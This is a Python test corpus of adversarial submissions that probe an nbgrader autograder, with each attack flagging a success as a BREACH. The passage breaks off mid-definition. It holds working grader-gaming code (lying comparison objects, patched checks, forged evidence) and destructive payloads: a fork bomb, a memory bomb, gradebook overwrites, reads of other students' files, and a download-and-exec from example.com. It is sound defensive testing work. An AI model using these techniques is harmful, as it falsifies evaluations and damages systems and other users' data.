"""Submissions of ps1_derivatives that try to gain points they did not earn, or to harm the grader.

Each `Attack` is what a determined student could hand in: code in answer cells
(`answers`, answer cell grade id -> cell source), optionally a change to the
notebook itself (`mutate`: its cells, their metadata, the kernelspec), and the
exercises it answers honestly with the instructor's solution (`honest`), whose
points it keeps. Every other exercise must score 0, and nothing outside the
attacker's own autograded folder may change.

Attack code prints a line starting with `BREACH` whenever something that should
be impossible worked (a file outside its folder was read or written, the network
answered, a reference was found); tests/test_attacks.py fails when such a line
is in the printed output of an attacker's autograded notebook, even if no point
was gained. Hidden points a function records while probed can be printed by a
later cell (`LEAK`): that must not reach the student's feedback. What a test cell
prints is dropped by the grader, so attacks that act while their functions are
probed report from a later answer cell.

`corpus(course_root, bystander)` builds the list: some attacks name the throwaway
course's absolute path and the honest bystander whose files they go after.
"""

from __future__ import annotations

import copy
import textwrap
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat
from nbformat import NotebookNode

ASSIGNMENT = "ps1_derivatives"
REPO = Path(__file__).resolve().parents[1]


@dataclass(frozen=True)
class Attack:
    id: str
    description: str
    answers: dict[str, str]
    honest: frozenset[str] = frozenset()
    mutate: Callable[[NotebookNode], None] | None = None
    needs_sandbox: bool = False  # must never run unconfined (it would harm the machine)

    @property
    def student(self) -> str:
        return f"atk_{self.id}"

    def submission(self, solution: dict[str, str]) -> dict[str, str]:
        """The answer cells: the honest exercises' instructor answers, then the attack's own cells."""
        overlap = set(self.honest) & set(self.answers)
        if overlap:
            raise ValueError(f"{self.id}: {sorted(overlap)} both honest and attacked")
        return {**{name: solution[name] for name in self.honest}, **self.answers}


def _code(source: str) -> str:
    return textwrap.dedent(source).strip("\n") + "\n"


def _borrowing(finder: str) -> dict[str, str]:
    """Answers that are whatever `_find(exercise)`, defined by `finder`, digs up while being graded."""
    return {
        "forward_difference": _code(finder) + "\n" + _code('''
            def _borrowed(exercise):
                def answer(*args, **kwargs):
                    found = _find(exercise)
                    if found is None:
                        raise NotImplementedError(exercise)
                    _found.add(exercise)
                    return found(*args, **kwargs)
                return answer

            _found = set()
            forward_difference = _borrowed("forward_difference")
            '''),
        **{name: f'{name} = _borrowed("{name}")\n' for name in ("central_difference", "step_errors", "best_step")},
        "sigmoid_prime": 'if _found:\n    print("BREACH found references for", sorted(_found))\n',
    }


# -- notebook mutations ---------------------------------------------------------------

def _grade_id(cell) -> str | None:
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def _is_test(cell) -> bool:
    meta = cell.metadata.get("nbgrader", {})
    return bool(meta.get("grade")) and not meta.get("solution") and cell.cell_type == "code"


def _index(nb, grade_id: str) -> int:
    return next(i for i, cell in enumerate(nb.cells) if _grade_id(cell) == grade_id)


def _edit_tests(nb) -> None:
    """A different change to each exercise's test cell, all of which nbgrader must undo."""
    for i, cell in enumerate(nb.cells):
        if not _is_test(cell):
            continue
        exercise = _grade_id(cell).removeprefix("test_")
        if exercise in ("poly_derivative", "d_product", "forward_difference"):
            cell.source = 'print("ok")'
        if exercise in ("d_quotient", "d_trig", "central_difference"):
            nb.cells[i] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
        if exercise in ("forward_difference", "sigmoid_prime", "tanh_prime"):
            cell.metadata.nbgrader.update(points=100.0, locked=False)
            cell.metadata.pop("editable", None)
            cell.metadata.pop("deletable", None)
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    nb.metadata["language_info"] = {"name": "bash"}


def _delete_tests(nb) -> None:
    nb.cells = [cell for cell in nb.cells if not _is_test(cell)]


def _duplicate_tests(nb) -> None:
    i = _index(nb, "test_poly_derivative")
    copies = [_copy(nb.cells[i]) for _ in range(4)]
    nb.cells[i + 1:i + 1] = copies[:3]
    nb.cells.append(copies[3])


def _copy(cell):
    copied = nbformat.from_dict(copy.deepcopy(cell))
    copied.id = uuid.uuid4().hex[:8]  # as Jupyter gives a pasted cell
    return copied


def _tests_before_answers(nb) -> None:
    # poly_derivative's test above its answer cell; central_difference's test above forward_difference's.
    test = nb.cells.pop(_index(nb, "test_poly_derivative"))
    nb.cells.insert(_index(nb, "poly_derivative"), test)
    test = nb.cells.pop(_index(nb, "test_central_difference"))
    nb.cells.insert(_index(nb, "test_forward_difference"), test)


def _all_tests_at_end_reversed(nb) -> None:
    tests = [cell for cell in nb.cells if _is_test(cell)]
    nb.cells = [cell for cell in nb.cells if not _is_test(cell)] + tests[::-1]


def _grade_false(nb) -> None:
    for cell in nb.cells:
        if _is_test(cell):
            cell.metadata.nbgrader["grade"] = False


def _fake_grade_cell(nb) -> None:
    fake = nbformat.v4.new_code_cell('print("bonus exercise: done")', metadata={
        "nbgrader": {"grade": True, "grade_id": "bonus_points", "locked": True, "points": 50.0,
                     "schema_version": 3, "solution": False}})
    nb.cells.insert(_index(nb, "test_poly_derivative") + 1, fake)


# -- attack code shared by several attacks ----------------------------------------------

# Define every answer from the instructor's notebook cells found in `notebook` (a dict).
_EXEC_SOLUTIONS = '''
def _take_answers(notebook):
    taken = []
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if cell["cell_type"] == "code" and meta.get("solution"):
            source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
            try:
                exec(source, globals())
                taken.append(meta["grade_id"])
            except Exception:
                pass
    return taken
'''

# Derivative exercises are easy once the test cell's own function is known.
_DERIVATIVES_FROM_TESTS = '''
def _answers_from_test_code(sources):
    """Run the instructor's test cells with checks that keep what they are given instead of checking."""
    import sympy as sp
    found = {}
    def keep(name, fn, reference, *args, **kwargs):
        if callable(reference):
            found.setdefault(name, reference)
    def keep_derivative(name, fn, f, var, *args, **kwargs):
        found.setdefault(name, sp.lambdify(var, sp.diff(f, var), "numpy"))
    def keep_expression(name, answer, f, var, *args, **kwargs):
        found.setdefault(name, sp.diff(f, var))
    scratch = dict(globals())
    scratch.update(check_function=keep, check_derivative=keep_derivative,
                   check_derivative_expression=keep_expression, trust=lambda **kw: None)
    for source in sources:
        try:
            exec(source, scratch)
        except Exception:
            pass
    globals().update(found)
    return sorted(found)
'''


def _read_and_use(paths_expr: str, what: str) -> str:
    return "import json, os\n" + _code(_EXEC_SOLUTIONS) + _code(f'''
        for _path in {paths_expr}:
            try:
                with open(_path) as _file:
                    _taken = _take_answers(json.load(_file))
                print("BREACH read {what}", _path, "and took", _taken)
            except Exception as _error:
                print("could not read", _path, "-", type(_error).__name__)
        ''')


def corpus(course_root: Path, bystander: str) -> list[Attack]:
    course = str(course_root)
    attacks = [
        # -- monkeypatching what the checks use ------------------------------------------
        Attack("numpy_comparisons", "np.isclose, np.allclose and np.array_equal always say 'equal'; every "
               "np.testing.assert_* does nothing", {
            "poly_derivative": _code('''
                import numpy.testing
                np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
                np.allclose = lambda *args, **kwargs: True
                np.array_equal = lambda *args, **kwargs: True
                for _name in dir(np.testing):
                    if _name.startswith("assert"):
                        setattr(np.testing, _name, lambda *args, **kwargs: None)

                def poly_derivative(x):
                    return 0 * x
                '''),
            "d_trig": "d_trig = x\n",
        }, honest=frozenset({"d_product"})),
        Attack("course_checks", "grader.checks.check_* (and the notebook's names for them) replaced by a print", {
            "d_quotient": _code('''
                import grader.checks
                def _all_good(*args, **kwargs):
                    print("✓ correct")
                for _name in ("check_function", "check_derivative", "check_expression",
                              "check_derivative_expression", "check_value", "report"):
                    setattr(grader.checks, _name, _all_good)
                    globals()[_name] = _all_good
                d_quotient = None
                '''),
        }, honest=frozenset({"poly_derivative", "d_product"})),
        Attack("evidence_observe", "grader.in_kernel.gathering.observe reports a plain number for every call", {
            "forward_difference": _code('''
                import grader.in_kernel.gathering as _ev
                def _observe(fn, probes):
                    return [_ev.Observation(p, _ev.Returned("number", 1.0, "float")) for p in probes]
                _ev.observe = _observe

                def forward_difference(f, x, h=1e-5):
                    raise NotImplementedError()
                '''),
        }, honest=frozenset({"d_product"})),
        Attack("evidence_normalise", "grader.in_kernel.gathering.normalise turns anything into the number 0", {
            "central_difference": _code('''
                import grader.in_kernel.gathering as _ev
                _ev.normalise = lambda obj, depth=0: _ev.Returned("number", 0.0, "float")

                def central_difference(f, x, h=1e-5):
                    return None
                '''),
        }, honest=frozenset({"poly_derivative"})),
        Attack("in_kernel_answer_requests", "grader.in_kernel.answering.answer_requests replaced: no evidence, a ✓ instead", {
            "d_trig": _code('''
                import grader.in_kernel.answering
                grader.in_kernel.answering.answer_requests = lambda packed: print("✓ every check passed")
                d_trig = None
                '''),
        }, honest=frozenset({"poly_derivative", "d_product"})),
        Attack("codec_payload", "grader.evidence_codec.payload rewrites errors into plain numbers", {
            "forward_difference": _code('''
                import grader.evidence_codec as _codec, grader.in_kernel.answering as _ik
                _real_payload = _codec.payload
                def _payload(nonce, index, name, evidence):
                    data = _real_payload(nonce, index, name, evidence)
                    ev = data["evidence"]
                    ev["defined"] = ev["callable"] = True
                    for obs in ev["observations"]:
                        obs["error"], obs["modified"] = None, []
                        if obs["returned"] is None or obs["returned"]["kind"] != "number":
                            obs["returned"] = {"kind": "number", "type": "float", "value": "0.0"}
                    return data
                _codec.payload = _ik.payload = _payload

                def forward_difference(f, x, h=1e-5):
                    raise ValueError("no idea")
                '''),
        }, honest=frozenset({"poly_derivative"})),
        Attack("builtins_abs", "builtins.abs returns 0, so every error looks like none", {
            "step_errors": _code('''
                import builtins
                builtins.abs = lambda value: 0 * value

                def step_errors(f, df, x, hs):
                    return np.array([abs(f(x) - df(x)) for h in hs])
                '''),
        }, honest=frozenset({"poly_derivative", "sigmoid_prime"})),
        Attack("builtins_float_isinstance", "builtins.isinstance says yes to the answer's object; builtins.float "
               "makes floats equal to everything", {
            "poly_derivative": _code('''
                import builtins
                _real_isinstance = builtins.isinstance

                class Anything:
                    def __float__(self):
                        return 0.0
                    def __eq__(self, other):
                        return True
                    __hash__ = object.__hash__

                class _Float(float):
                    def __eq__(self, other):
                        return True
                    def __ne__(self, other):
                        return False
                    __hash__ = float.__hash__

                builtins.isinstance = lambda obj, classinfo: True if type(obj) is Anything else _real_isinstance(obj, classinfo)
                builtins.float = _Float

                def poly_derivative(x):
                    return Anything()
                '''),
        }, honest=frozenset({"d_product"})),

        # -- answers that lie ---------------------------------------------------------------
        Attack("liar_dunders", "answers return an object whose __eq__, __sub__, __abs__, __float__, __array__ "
               "and __bool__ lie", {
            "poly_derivative": _code('''
                class Anything:
                    """Equal to everything and at distance 0 from it."""
                    def __eq__(self, other): return True
                    def __ne__(self, other): return False
                    def __sub__(self, other): return 0.0
                    def __rsub__(self, other): return 0.0
                    def __abs__(self): return 0.0
                    def __lt__(self, other): return True
                    def __le__(self, other): return True
                    def __gt__(self, other): return False
                    def __ge__(self, other): return True
                    def __float__(self): return 0.0
                    def __bool__(self): return True
                    def __array__(self, dtype=None, copy=None): return np.zeros(1)
                    def __len__(self): return 1
                    def __getitem__(self, i): return 0.0
                    __hash__ = object.__hash__

                def poly_derivative(x):
                    return Anything()
                '''),
            "forward_difference": "def forward_difference(f, x, h=1e-5):\n    return Anything()\n",
            "step_errors": "def step_errors(f, df, x, hs):\n    return Anything()\n",
            "is_continuous_at": "def is_continuous_at(expr, var, point):\n    return Anything()\n",
            "d_product": "d_product = Anything()\n",
        }, honest=frozenset({"d_trig"})),
        Attack("liar_float_subclass", "answers return a float subclass equal to everything, with a lying __float__", {
            "poly_derivative": _code('''
                class Close(float):
                    def __eq__(self, other): return True
                    def __ne__(self, other): return False
                    def __sub__(self, other): return Close(0.0)
                    def __rsub__(self, other): return Close(0.0)
                    def __abs__(self): return Close(0.0)
                    def __lt__(self, other): return True
                    def __le__(self, other): return True
                    def __float__(self): return 0.0
                    __hash__ = float.__hash__

                def poly_derivative(x):
                    return Close(0.0)
                '''),
            "sigmoid_prime": "def sigmoid_prime(z):\n    return Close(0.25)\n",
            "best_step": "def best_step(f, df, x, hs):\n    return Close(0.0)\n",
        }, honest=frozenset({"forward_difference"})),
        Attack("liar_ndarray_subclass", "answers return an ndarray subclass whose comparisons, subtraction, "
               "ufuncs and __array__ lie", {
            "step_errors": _code('''
                class Close(np.ndarray):
                    def __eq__(self, other): return np.ones(np.shape(other), bool)
                    def __ne__(self, other): return np.zeros(np.shape(other), bool)
                    def __sub__(self, other): return np.zeros(np.shape(other))
                    def __rsub__(self, other): return np.zeros(np.shape(other))
                    def __abs__(self): return np.zeros(self.shape)
                    def __array__(self, dtype=None, copy=None): return np.zeros(self.shape)
                    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                        return np.zeros(np.broadcast(*[np.asarray(i) for i in inputs if not isinstance(i, Close)] or [0]).shape)

                def step_errors(f, df, x, hs):
                    return np.zeros(len(hs)).view(Close)
                '''),
            "tanh_prime": "def tanh_prime(z):\n    return np.zeros(np.shape(z)).view(Close)\n",
        }, honest=frozenset({"central_difference"})),
        Attack("sympy_lies", "SymPy answers that lie: an Expr subclass equal to everything, an undefined "
               "function, a Symbol whose name is code", {
            "d_product": _code('''
                class Right(sp.Expr):
                    """Agrees with any expression it is compared to."""
                    is_commutative = True
                    def equals(self, other, failing_expression=False): return True
                    def __eq__(self, other): return True
                    def __ne__(self, other): return False
                    __hash__ = sp.Expr.__hash__
                    def __sub__(self, other): return sp.S.Zero
                    def __rsub__(self, other): return sp.S.Zero
                    def simplify(self, **kwargs): return sp.S.Zero
                    def _eval_subs(self, old, new): return self
                    def evalf(self, *args, **kwargs): return sp.Float(0)

                d_product = Right()
                '''),
            "d_quotient": "d_quotient = sp.Function('correct')(x)\n",
            "d_trig": _code(f'''
                _payload = "__import__('pathlib').Path({course!r}, 'PWNED_BY_SYMBOL_NAME').touch() or x"
                d_trig = sp.Add(sp.cos(2 * x), sp.Mul(0, sp.Symbol(_payload), evaluate=False), evaluate=False)
                '''),
        }, honest=frozenset({"poly_derivative"})),

        # -- IPython hooks ---------------------------------------------------------------------
        Attack("ipython_hide_failures", "set_custom_exc, showtraceback, showsyntaxerror and sys.displayhook "
               "turn every error and result into a ✓", {
            "d_product": _code('''
                import sys
                def _looks_fine(shell, etype, evalue, tb, tb_offset=None):
                    print("✓ passed")
                get_ipython().set_custom_exc((BaseException,), _looks_fine)
                get_ipython().showtraceback = lambda *args, **kwargs: print("✓ passed")
                get_ipython().showsyntaxerror = lambda *args, **kwargs: print("✓ passed")
                sys.displayhook = lambda value: print("✓ correct")
                d_product = None
                '''),
            "sigmoid_prime": "def sigmoid_prime(z):\n    raise ValueError('no idea')\n",
        }, honest=frozenset({"poly_derivative"})),
        Attack("ipython_post_run_cell", "a post_run_cell hook clears every test cell's outputs", {
            "poly_derivative": _code('''
                from IPython.display import clear_output
                def _hide_tests(result):
                    code = result.info.raw_cell or ""
                    if "answer_requests" in code or "check_" in code:
                        clear_output()
                        print("✓ all tests passed")
                get_ipython().events.register("post_run_cell", _hide_tests)
                def poly_derivative(x):
                    return x
                '''),
        }),
        Attack("display_pub_drop", "display_pub.publish drops every message carrying evidence", {
            "d_quotient": _code('''
                _publish = get_ipython().display_pub.publish
                def _filtered(data, *args, **kwargs):
                    if any("evidence" in key for key in data):
                        return None
                    return _publish(data, *args, **kwargs)
                get_ipython().display_pub.publish = _filtered
                d_quotient = None
                '''),
        }, honest=frozenset({"poly_derivative"})),
        Attack("display_pub_rewrite", "display_pub.publish rewrites evidence: every error becomes a returned 0", {
            "forward_difference": _code('''
                import copy
                _publish = get_ipython().display_pub.publish
                def _rewritten(data, *args, **kwargs):
                    for key, value in list(data.items()):
                        if "evidence" in key and isinstance(value, dict) and "evidence" in value:
                            value = copy.deepcopy(value)
                            ev = value["evidence"]
                            ev["defined"] = ev["callable"] = True
                            for obs in ev.get("observations", []):
                                obs["error"] = None
                                obs["returned"] = {"kind": "number", "type": "float", "value": "0.0"}
                            data = {**data, key: value}
                    return _publish(data, *args, **kwargs)
                get_ipython().display_pub.publish = _rewritten

                def forward_difference(f, x, h=1e-5):
                    raise ValueError("no idea")
                '''),
        }, honest=frozenset({"d_trig"})),

        # -- the kernel stops, hangs or floods -------------------------------------------------
        Attack("sys_exit", "sys.exit() in an answer cell and inside an answer function", {
            "d_product": "import sys\nsys.exit()\nd_product = 2 * x * sp.exp(x)\n",
            "tanh_prime": "def tanh_prime(z):\n    import sys\n    sys.exit(0)\n",
        }, honest=frozenset({"poly_derivative", "d_trig"})),
        Attack("os_exit_top_level", "os._exit(0) at the top of an answer cell", {
            "d_quotient": "import os\nos._exit(0)\n",
        }, honest=frozenset({"poly_derivative", "d_trig", "relu_prime"})),
        Attack("os_exit_in_function", "os._exit(0) inside an answer function the tests call", {
            "sigmoid_prime": "def sigmoid_prime(z):\n    import os\n    os._exit(0)\n",
        }, honest=frozenset({"forward_difference", "central_difference", "tanh_prime"})),
        Attack("os_kill_9", "os.kill(os.getpid(), 9) at the top of an answer cell", {
            "d_trig": "import os\nos.kill(os.getpid(), 9)\n",
        }, honest=frozenset({"poly_derivative", "is_continuous_at"})),
        Attack("loop_top_level", "an infinite loop at the top of an answer cell", {
            "poly_derivative": "while True:\n    pass\n",
        }, honest=frozenset({"d_product"})),
        Attack("loop_in_function", "an infinite loop inside an answer function the tests call", {
            "relu_prime": "def relu_prime(z):\n    while True:\n        pass\n",
        }, honest=frozenset({"poly_derivative"})),
        Attack("loop_ignoring_sigint", "SIGINT ignored, then an infinite loop at the top of an answer cell", {
            "forward_difference": _code('''
                import signal
                signal.signal(signal.SIGINT, signal.SIG_IGN)
                while True:
                    pass
                '''),
        }, honest=frozenset({"poly_derivative", "d_product"})),
        Attack("memory_bomb", "allocate 100 MB at a time until memory runs out", {
            "central_difference": _code('''
                _hoard = []
                while True:
                    _hoard.append(b"x" * 10**8)
                '''),
        }, honest=frozenset({"poly_derivative"}), needs_sandbox=True),
        Attack("fork_bomb", "every process forks for ever", {
            "is_continuous_at": _code('''
                import os
                def _spawn():
                    while True:
                        try:
                            os.fork()
                        except OSError:
                            pass
                _spawn()
                '''),
        }, honest=frozenset({"poly_derivative", "d_product", "sigmoid_prime"}), needs_sandbox=True),
        Attack("print_50mb", "50 MB printed by an answer cell", {
            "d_product": 'for _ in range(50):\n    print("x" * 10**6)\nd_product = None\n',
        }, honest=frozenset({"poly_derivative"})),
        Attack("disk_outside_tmp", "fill the only writable host folder (the kernel's runtime folder) past the "
               "/tmp quota", {
            "d_trig": _code('''
                import os, sys
                _folder = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
                _written = 0
                for _i in range(5):
                    try:
                        with open(os.path.join(_folder, f"ballast{_i}"), "wb") as _file:
                            for _ in range(64):
                                _file.write(b"x" * 2**20)
                        _written += 64
                    except OSError as _error:
                        print("stopped:", _error)
                        break
                if _written > 256:
                    print(f"BREACH wrote {_written} MiB in {_folder}, past the 256 MiB /tmp quota, on the host's disk")
                d_trig = None
                '''),
        }, honest=frozenset({"poly_derivative"}), needs_sandbox=True),

        # -- files and network ---------------------------------------------------------------
        Attack("read_gradebook", "sqlite3 on ../../../gradebook.db: hidden tests give references to use", {
            "poly_derivative": "import sqlite3\n" + _code(_DERIVATIVES_FROM_TESTS) + _code('''
                try:
                    _db = sqlite3.connect("file:../../../gradebook.db?mode=ro", uri=True)
                    _sources = [row[0] for row in _db.execute("SELECT source FROM source_cell WHERE name LIKE 'test_%'")]
                    print("BREACH read the gradebook:", len(_sources), "test cells")
                    _found = _answers_from_test_code(_sources)
                    print("BREACH took", _found)
                    for _name in list(_found):
                        _ref = globals()[_name]
                        globals()[_name.removeprefix("_")] = _ref
                except Exception as _error:
                    print("no gradebook:", type(_error).__name__, _error)
                '''),
        }),
        Attack("read_source", "the source notebook (every solution) by paths relative to the working folder, by "
               "the course's absolute path and by the repository's", {
            "poly_derivative": _read_and_use(
                repr(["../../../source/ps1_derivatives/ps1_derivatives.ipynb",
                      "../../source/ps1_derivatives/ps1_derivatives.ipynb",
                      f"{course}/source/ps1_derivatives/ps1_derivatives.ipynb",
                      f"{REPO}/source/ps1_derivatives/ps1_derivatives.ipynb"]), "the source notebook"),
        }),
        Attack("read_other_student", "another student's submitted and autograded notebooks, answers copied", {
            "poly_derivative": _read_and_use(
                repr([f"../../../submitted/{bystander}/ps1_derivatives/ps1_derivatives.ipynb",
                      f"../../{bystander}/ps1_derivatives/ps1_derivatives.ipynb",
                      f"{course}/submitted/{bystander}/ps1_derivatives/ps1_derivatives.ipynb",
                      f"{course}/autograded/{bystander}/ps1_derivatives/ps1_derivatives.ipynb"]),
                "another student's notebook"),
        }),
        Attack("read_demo_alternatives", "grader/demo/alternatives (complete solutions) imported or read, then exec'd", {
            "poly_derivative": _code('''
                import pathlib, collections
                import grader
                _sources = []
                try:
                    from grader.demo.alternatives import load as _load
                    _sources = [a.source for a in _load("ps1_derivatives")]
                    print("BREACH imported grader.demo.alternatives")
                except Exception as _error:
                    print("no import:", type(_error).__name__)
                for _root in [pathlib.Path(grader.__file__).parent, pathlib.Path("/work/main/grader")]:
                    _file = _root / "demo" / "alternatives" / "ps1_derivatives.py"
                    try:
                        _text = _file.read_text()
                    except Exception as _error:
                        print("cannot read", _file, type(_error).__name__)
                        continue
                    print("BREACH read", _file)
                    _scratch = {}
                    exec(_text.replace("from grader.demo.alternatives import Alternative",
                                       "Alternative = __import__('collections').namedtuple('A', 'exercise tag source')"),
                         _scratch)
                    _sources += [a.source for a in _scratch["ALTERNATIVES"]]
                for _source in _sources:
                    try:
                        exec(_source, globals())
                    except Exception:
                        pass
                '''),
        }),
        Attack("write_gradebook", "open(gradebook, 'w') and sqlite3 UPDATEs of every grade", {
            "d_product": _code(f'''
                import sqlite3
                for _path in ["../../../gradebook.db", {course + "/gradebook.db"!r}]:
                    try:
                        _db = sqlite3.connect(f"file:{{_path}}?mode=rw", uri=True)
                        _db.execute("UPDATE grade SET manual_score = 100, needs_manual_grade = 0")
                        _db.commit()
                        print("BREACH updated", _path)
                    except Exception as _error:
                        print("no update:", type(_error).__name__, _error)
                    try:
                        with open(_path, "w") as _file:
                            _file.write("gone")
                        print("BREACH overwrote", _path)
                    except Exception as _error:
                        print("no write:", type(_error).__name__)
                d_product = None
                '''),
        }, honest=frozenset({"poly_derivative"})),
        Attack("write_other_students", "overwrite another student's files, the source, release, exchange and config", {
            "d_product": _code(f'''
                import glob, os
                _targets = [
                    "../../../submitted/{bystander}/ps1_derivatives/ps1_derivatives.ipynb",
                    "../../{bystander}/ps1_derivatives/ps1_derivatives.ipynb",
                    "../../../source/ps1_derivatives/ps1_derivatives.ipynb",
                    "../../../nbgrader_config.py",
                    "ps1_derivatives.ipynb",
                    "new_file.txt",
                    "../../../PWNED",
                ] + glob.glob({course!r} + "/**/*.ipynb", recursive=True) + glob.glob({course!r} + "/exchange/**/*", recursive=True)
                for _path in _targets:
                    try:
                        with open(_path, "w") as _file:
                            _file.write("{{}}")
                        print("BREACH wrote", _path)
                    except Exception as _error:
                        print("could not write", _path, type(_error).__name__)
                d_product = None
                '''),
        }, honest=frozenset({"poly_derivative"})),
        Attack("network", "download answers from the internet (TCP, HTTP and DNS)", {
            "poly_derivative": _code('''
                import socket, urllib.request
                for _host, _port in [("1.1.1.1", 53), ("8.8.8.8", 53), ("127.0.0.1", 8888)]:
                    try:
                        socket.create_connection((_host, _port), timeout=2).close()
                        print("BREACH connected to", _host, _port)
                    except OSError as _error:
                        print("no connection to", _host, type(_error).__name__)
                try:
                    print("BREACH resolved", socket.gethostbyname("pypi.org"))
                except OSError as _error:
                    print("no DNS:", type(_error).__name__)
                try:
                    _code = urllib.request.urlopen("http://example.com/ps1_derivatives_solutions.py", timeout=3).read()
                    print("BREACH downloaded", len(_code), "bytes")
                    exec(_code, globals())
                except Exception as _error:
                    print("no download:", type(_error).__name__)
                '''),
        }),

        # -- the notebook itself -------------------------------------------------------------------
        Attack("edit_test_cells", "test cells rewritten (print('ok')), turned into markdown, made worth 100 points "
               "and unlocked, and the notebook asks for a bash kernel", {},
               honest=frozenset({"poly_derivative", "d_quotient", "forward_difference", "sigmoid_prime"}),
               mutate=_edit_tests),
        Attack("delete_test_cells", "every test cell deleted", {}, honest=frozenset({"poly_derivative", "d_product"}),
               mutate=_delete_tests),
        Attack("duplicate_test_cells", "a passing test cell copied three times, and once more at the end",
               {}, honest=frozenset({"poly_derivative"}), mutate=_duplicate_tests),
        Attack("test_before_answer", "a correct answer's test moved above its answer cell, and one test above an "
               "earlier exercise's", {
            "poly_derivative": "def poly_derivative(x):\n    return 9 * x**2 - 4 * x + 1\n",
        }, honest=frozenset({"d_product"}), mutate=_tests_before_answers),
        Attack("tests_reversed_at_end", "every test cell moved to the end, in reverse order",
               {}, honest=frozenset({"poly_derivative", "d_product"}), mutate=_all_tests_at_end_reversed),
        Attack("metadata_grade_false", "test cells marked grade: false", {}, honest=frozenset({"poly_derivative"}),
               mutate=_grade_false),
        Attack("fake_grade_cell", "a new cell with a made-up grade id worth 50 points that only prints", {},
               honest=frozenset({"poly_derivative"}), mutate=_fake_grade_cell),
        Attack("evidence_from_answer_cell", "an answer cell publishes evidence (guessed nonce) for later tests", {
            "d_product": _code('''
                from IPython.display import publish_display_data
                _MIME = "application/vnd.calc4ml.evidence+json"
                for _index, _name in enumerate(["d_product", "d_product"]):
                    publish_display_data({_MIME: {
                        "nonce": "0" * 32, "index": _index, "name": _name,
                        "evidence": {"defined": True, "type": "Add", "callable": False, "arg_names": [],
                                     "observations": [], "value": None,
                                     "expression": {"kind": "sympy", "tree": ["Symbol", "x"]}}}})
                d_product = None
                '''),
        }, honest=frozenset({"poly_derivative"})),
        Attack("evidence_from_function_guessed", "an answer function publishes evidence with a guessed nonce while "
               "it is probed", {
            "sigmoid_prime": _code('''
                from IPython.display import publish_display_data
                def sigmoid_prime(z):
                    evidence = {"defined": True, "type": "function", "callable": True, "arg_names": ["z"],
                                "observations": [], "value": None, "expression": {"kind": "none"}}
                    publish_display_data({"application/vnd.calc4ml.evidence+json": {
                        "nonce": "deadbeef" * 4, "index": 0, "name": "sigmoid_prime", "evidence": evidence}})
                    return 0.25
                '''),
        }),
        Attack("evidence_real_nonce", "an answer function reads the real nonce and requests from the call stack "
               "(or the cell history), forges evidence and suppresses the real one", {
            "tanh_prime": _code('''
                import base64, inspect, pickle
                import grader.in_kernel.answering as _ik
                from IPython.display import publish_display_data as _publish

                def _grader_state():
                    for frame in inspect.stack():
                        local = frame.frame.f_locals
                        if "nonce" in local and "requests" in local:
                            return local["nonce"], local["requests"], local.get("index", 0)
                    for cell in reversed(get_ipython().user_ns.get("In", [])):
                        if "answer_requests('" in cell:
                            nonce, requests = pickle.loads(base64.b64decode(cell.split("answer_requests('")[1].split("'")[0]))
                            return nonce, requests, 0
                    return None

                def tanh_prime(z):
                    state = _grader_state()
                    if state is not None:
                        nonce, requests, index = state
                        probes = requests[index].probes
                        observations = [{"returned": {"kind": "number", "type": "float", "value": "1.0"},
                                         "error": None, "modified": []} for _ in probes]
                        _publish({"application/vnd.calc4ml.evidence+json": {
                            "nonce": nonce, "index": index, "name": "tanh_prime",
                            "evidence": {"defined": True, "type": "function", "callable": True, "arg_names": ["z"],
                                         "observations": observations, "value": None,
                                         "expression": {"kind": "none"}}}})
                        _ik.publish_display_data = lambda *args, **kwargs: None  # the real evidence goes nowhere
                        print("forged evidence with the real nonce", nonce)
                    return 1.0
                '''),
        }),

        # -- detecting grading and looking for references --------------------------------------------
        Attack("detect_env_trusted", "when NBGRADER_EXECUTION is set, answers are looked up in grader.checks._TRUSTED, "
               "in _-names of the notebook and in every object in memory", {
            **_borrowing('''
                import gc, os
                import grader.checks

                def _find(exercise):
                    if not os.environ.get("NBGRADER_EXECUTION"):
                        return None
                    if exercise in grader.checks._TRUSTED:
                        return grader.checks._TRUSTED[exercise]
                    for name, value in list(globals().items()):
                        if name.startswith("_") and exercise.split("_")[0] in name and callable(value) and name != "_find":
                            return value
                    for obj in gc.get_objects():
                        if callable(obj) and getattr(obj, "__name__", "").startswith("_" + exercise.split("_")[0]) \\
                                and getattr(obj, "__name__", "").endswith("_reference"):
                            return obj
                    return None
                '''),
            "is_continuous_at": 'is_continuous_at = _borrowed("is_continuous_at")\n',
        }),
        Attack("detect_stack_frames", "answers search inspect.stack() frames (locals and globals) for the grader's "
               "references and requests", _borrowing('''
                import inspect

                def _find(exercise):
                    for info in inspect.stack():
                        frame = info.frame
                        for scope in (frame.f_locals, frame.f_globals):
                            for name, value in list(scope.items()):
                                if callable(value) and name.startswith("_" + exercise.split("_")[0]) and "reference" in name:
                                    return value
                            for value in list(scope.values()):
                                substitutes = getattr(value, "substitutes", None)
                                if isinstance(substitutes, dict) and exercise in substitutes:
                                    return substitutes[exercise]
                    return None
                ''')),
        Attack("exfiltrate_hidden_probes", "an answer function records the hidden points it is called at; a later "
               "answer cell prints them, so they appear in the student's feedback", {
            "poly_derivative": _code('''
                _seen = []
                def poly_derivative(x):
                    _seen.append(np.asarray(x).tolist())
                    return 0 * x
                '''),
            # Instructors may see this in autograded/; the student's feedback must not show it.
            "d_product": 'if _seen:\n    print("LEAK hidden probe points:", _seen)\nd_product = None\n',
        }, honest=frozenset({"d_trig"})),
        Attack("late_evidence_display_id", "evidence published with a display id, then rewritten by "
               "update_display_data from a later test cell once that cell's request carries the trusted reference "
               "(substitutes) of the earlier exercise", {
            "forward_difference": _code('''
                import base64, pickle
                import grader.in_kernel.answering as _ik
                from grader.in_kernel.gathering import gather
                from grader.evidence_codec import MIME_TYPE, payload
                from IPython.display import publish_display_data

                _pending, _stolen, _rewritten = {}, {}, []

                def _publish(data, display_id, update=False):
                    publish_display_data({MIME_TYPE: data, "text/plain": "evidence"},
                                         transient={"display_id": display_id}, update=update)

                def _answer_requests(packed):
